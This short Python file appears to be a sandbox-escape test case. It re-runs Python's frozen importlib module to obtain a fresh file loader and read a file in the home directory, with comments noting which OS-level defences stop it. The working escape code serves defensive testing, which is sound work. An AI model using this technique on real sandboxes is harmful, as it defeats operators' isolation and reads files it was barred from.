"""Runs Python's frozen modules again, to get fresh importers that nobody has taken off the files."""
# stopped by: seccomp, landlock, namespaces
# at D: breach
import _imp
import sys


def attack():
    fresh = {"__name__": "fresh", "sys": sys, "_imp": _imp}
    exec(_imp.get_frozen_object("_frozen_importlib_external"), fresh)
    fresh["_set_bootstrap_module"](sys.modules["_frozen_importlib"])
    return fresh["FileLoader"]("notes", "@HOME@/notes.txt").get_data("@HOME@/notes.txt").decode()
